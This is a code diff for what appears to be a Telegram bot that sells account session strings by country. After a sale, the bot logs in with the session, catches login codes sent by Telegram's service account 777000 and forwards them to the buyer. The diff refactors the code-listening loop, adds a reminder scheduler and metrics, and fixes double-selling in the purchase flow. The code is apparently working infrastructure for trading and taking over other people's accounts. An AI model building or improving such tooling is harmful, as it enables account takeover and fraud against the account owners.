@@ -1,14 +1,15 @@
 """
 Session Handler - NON-BLOCKING OTP LISTENING
-Uses background tasks to avoid blocking the main bot
+Uses background tasks to avoid blocking the main bot; each listener waits on
+the code itself and disconnects once it arrived and the grace period is over
 """
-from telethon import TelegramClient, events
-from telethon.sessions import StringSession
-from telethon.errors import SessionPasswordNeededError, FloodWaitError
 import config
+import metrics
 from database import get_db, TelegramSession, Purchase, User
 from datetime import datetime
 import asyncio
+import heapq
+import itertools
 import logging
 import re
 import time
@@ -19,6 +20,73 @@ logger = logging.getLogger(__name__)
 otp_listeners = {}
 active_clients = {}
 
+# Listen this long for the login code, then keep the client connected
+# GRACE_PERIOD more seconds (a second code request, slow app login)
+LISTEN_TIMEOUT = 300
+GRACE_PERIOD = 30
+
+# "Still listening" reminder every REMINDER_INTERVAL seconds while waiting
+REMINDER_INTERVAL = 60
+
+code_wait = metrics.Histogram(
+    'otp_listener_wait_seconds', 'Time from listener start to the login code or timeout', ('outcome',)
+)
+
+stats = {'started': 0, 'codes': 0, 'timeouts': 0, 'connection_seconds': 0.0}
+
+# ============================================
+# REMINDER SCHEDULER
+# ============================================
+
+class ReminderScheduler:
+    """One task sends the minute-by-minute reminders of every waiting listener"""
+    
+    def __init__(self):
+        self._heap = []
+        self._order = itertools.count()
+        self._wakeup = asyncio.Event()
+        self._task = None
+    
+    def add(self, user_id, bot, code_future):
+        """Schedule reminders until code_future is done or LISTEN_TIMEOUT passes"""
+        started = time.monotonic()
+        for minute in range(1, LISTEN_TIMEOUT // REMINDER_INTERVAL):
+            heapq.heappush(
+                self._heap,
+                (started + minute * REMINDER_INTERVAL, next(self._order), user_id, bot, code_future, minute)
+            )
+        self._wakeup.set()
+        if self._task is None or self._task.done():
+            self._task = asyncio.create_task(self._run())
+    
+    async def _run(self):
+        while self._heap:
+            due, _, user_id, bot, code_future, minute = self._heap[0]
+            delay = due - time.monotonic()
+            if delay > 0:
+                self._wakeup.clear()
+                try:
+                    await asyncio.wait_for(self._wakeup.wait(), timeout=delay)
+                except asyncio.TimeoutError:
+                    pass
+                continue
+            heapq.heappop(self._heap)
+            if not code_future.done():
+                asyncio.create_task(self._remind(user_id, bot, minute))
+    
+    @staticmethod
+    async def _remind(user_id, bot, minute):
+        try:
+            await bot.send_message(
+                user_id,
+                f"⏳ Still listening... ({minute} min)\n"
+                f"Request the code from Telegram if you haven't!"
+            )
+        except Exception:
+            pass
+
+reminders = ReminderScheduler()
+
 async def get_otp_from_session(session_string, phone_number, user_id, bot):
     """
     NON-BLOCKING OTP listener
@@ -52,7 +120,11 @@ async def _otp_listener_background(session_string, phone_number, user_id, bot):
     BACKGROUND TASK - Runs independently without blocking bot
     """
     client = None
+    code_future = None
     try:
+        from telethon import TelegramClient, events
+        from telethon.sessions import StringSession
+        
         logger.info(f"🎯 Background OTP listener started for user {user_id}")
         
         # ✅ FIXED: Use correct config variable names
@@ -67,6 +139,7 @@ async def _otp_listener_background(session_string, phone_number, user_id, bot):
         
         # Connect with timeout
         await asyncio.wait_for(client.connect(), timeout=20.0)
+        connected_at = time.monotonic()
         
         if not await client.is_user_authorized():
             await bot.send_message(
@@ -75,24 +148,24 @@ async def _otp_listener_background(session_string, phone_number, user_id, bot):
             )
             if client.is_connected():
                 await client.disconnect()
+            stats['connection_seconds'] += time.monotonic() - connected_at
             return
         
         logger.info(f"✅ Client connected for user {user_id}")
         
         # Store client
         active_clients[user_id] = client
-        otp_listeners[user_id] = {'found': False, 'code': None, 'task_active': True}
+        otp_listeners[user_id] = {'found': False, 'code': None, 'task_active': True, 'connected_at': connected_at}
+        stats['started'] += 1
         
-        # Flag to track if we found OTP
-        otp_found = False
+        # Resolved by the first code that arrives
+        code_future = asyncio.get_running_loop().create_future()
         
         # ========================================
         # MESSAGE HANDLER - Catches OTP from 777000
         # ========================================
         @client.on(events.NewMessage(from_users=777000))
         async def otp_handler(event):
-            nonlocal otp_found
-            
             try:
                 message_text = event.raw_text
                 logger.info(f"📨 Message from 777000: {message_text[:100]}")
@@ -104,7 +177,8 @@ async def _otp_listener_background(session_string, phone_number, user_id, bot):
                     otp_code = otp_match.group(0)
                     logger.info(f"🎯 ✅ OTP FOUND: {otp_code}")
                     
-                    otp_found = True
+                    if not code_future.done():
+                        code_future.set_result(otp_code)
                     
                     # Update listener status
                     if user_id in otp_listeners:
@@ -149,33 +223,21 @@ async def _otp_listener_background(session_string, phone_number, user_id, bot):
         # ========================================
         # LISTEN FOR 5 MINUTES (NON-BLOCKING)
         # ========================================
-        
-        # Keep client running in background
-        # Check every 5 seconds for 5 minutes = 60 iterations
-        for i in range(60):
-            # Don't block - use asyncio.sleep
-            await asyncio.sleep(5)
-            
-            # Check if OTP found
-            if otp_found:
-                logger.info(f"✅ OTP received after {(i+1)*5}s, keeping alive 30s more")
-                await asyncio.sleep(30)  # Grace period
-                break
-            
-            # Status update every minute
-            if i > 0 and i % 12 == 0:
-                minutes = i // 12
-                try:
-                    await bot.send_message(
-                        user_id,
-                        f"⏳ Still listening... ({minutes} min)\n"
-                        f"Request the code from Telegram if you haven't!"
-                    )
-                except:
-                    pass
-        
-        # Timeout or success
-        if not otp_found:
+        reminders.add(user_id, bot, code_future)
+        listen_started = time.monotonic()
+        try:
+            # shield: the handler may still resolve the future during the grace period
+            await asyncio.wait_for(asyncio.shield(code_future), timeout=LISTEN_TIMEOUT)
+            waited = time.monotonic() - listen_started
+            stats['codes'] += 1
+            code_wait.observe(waited, 'code')
+            logger.info(f"✅ OTP received after {waited:.0f}s, keeping alive {GRACE_PERIOD}s more")
+            await asyncio.sleep(GRACE_PERIOD)
+        except asyncio.TimeoutError:
+            # Stops any reminders still scheduled
+            code_future.cancel()
+            stats['timeouts'] += 1
+            code_wait.observe(time.monotonic() - listen_started, 'timeout')
             logger.warning(f"⏰ Timeout: No OTP in 5 min for user {user_id}")
             try:
                 await bot.send_message(
@@ -215,6 +277,8 @@ async def _otp_listener_background(session_string, phone_number, user_id, bot):
     
     finally:
         # CLEANUP
+        if code_future is not None and not code_future.done():
+            code_future.cancel()
         await cleanup_client(user_id)
 
 async def cleanup_client(user_id):
@@ -223,6 +287,7 @@ async def cleanup_client(user_id):
         # Remove listener flag
         if user_id in otp_listeners:
             otp_listeners[user_id]['task_active'] = False
+            stats['connection_seconds'] += time.monotonic() - otp_listeners[user_id]['connected_at']
             del otp_listeners[user_id]
             logger.info(f"🗑️ Removed listener for user {user_id}")
         
@@ -241,6 +306,21 @@ async def cleanup_client(user_id):
     except Exception as e:
         logger.error(f"Cleanup error: {e}")
 
+@metrics.register_collector
+def _otp_listener_metrics():
+    return [
+        ('otp_listeners_active', 'gauge', 'OTP listeners holding a connected client',
+         [({}, len(otp_listeners))]),
+        ('otp_listeners_started_total', 'counter', 'OTP listeners that connected',
+         [({}, stats['started'])]),
+        ('otp_listener_codes_total', 'counter', 'Login codes forwarded by OTP listeners',
+         [({}, stats['codes'])]),
+        ('otp_listener_timeouts_total', 'counter', 'OTP listeners that gave up without a code',
+         [({}, stats['timeouts'])]),
+        ('otp_listener_connection_seconds_total', 'counter', 'Seconds OTP listener clients stayed connected',
+         [({}, stats['connection_seconds'])])
+    ]
+
 async def get_available_sessions_by_country():
     """Get available sessions grouped by country"""
     try:
@@ -279,11 +359,23 @@ async def purchase_session(user_id, session_id, purchase_type='session'):
         if user['balance'] < session['price']:
             return None, f"Insufficient balance. Need ${session['price']:.2f}, have ${user['balance']:.2f}"
         
-        # Deduct balance
-        User.update_balance(user_id, session['price'], operation='subtract')
+        # Claim the session before charging, so concurrent buyers can't both get it
+        session = TelegramSession.claim_for_sale(session_id, user_id)
+        if session is None:
+            return None, "Session already sold"
         
-        # Mark as sold
-        TelegramSession.mark_as_sold(session_id, user_id)
+        # Deduct balance
+        try:
+            charged = User.update_balance(
+                user_id, session['price'], operation='subtract',
+                reason='purchase', idempotency_key=f"purchase:{session['claim_id']}", ref=str(session_id)
+            )
+        except Exception:
+            TelegramSession.release_claim(session_id, user_id)
+            raise
+        if not charged:
+            TelegramSession.release_claim(session_id, user_id)
+            return None, "Payment failed, please try again"
         
         # Create purchase record
         Purchase.create(
@@ -337,6 +429,9 @@ async def verify_session(session_string):
     """Verify if a session is still valid"""
     client = None
     try:
+        from telethon import TelegramClient
+        from telethon.sessions import StringSession
+        
         # ✅ FIXED: Use correct config variable names
         client = TelegramClient(
             StringSession(session_string),